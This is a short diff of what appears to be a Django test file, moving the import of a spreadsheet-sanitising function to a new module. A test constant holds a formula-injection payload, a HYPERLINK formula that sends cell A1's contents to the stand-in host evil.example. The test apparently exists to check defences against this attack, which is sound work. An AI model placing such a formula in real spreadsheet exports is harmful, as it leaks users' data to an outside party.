@@ -9,7 +9,7 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from stats.exports import spreadsheet_safe
+from community.spreadsheets import spreadsheet_safe
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
 
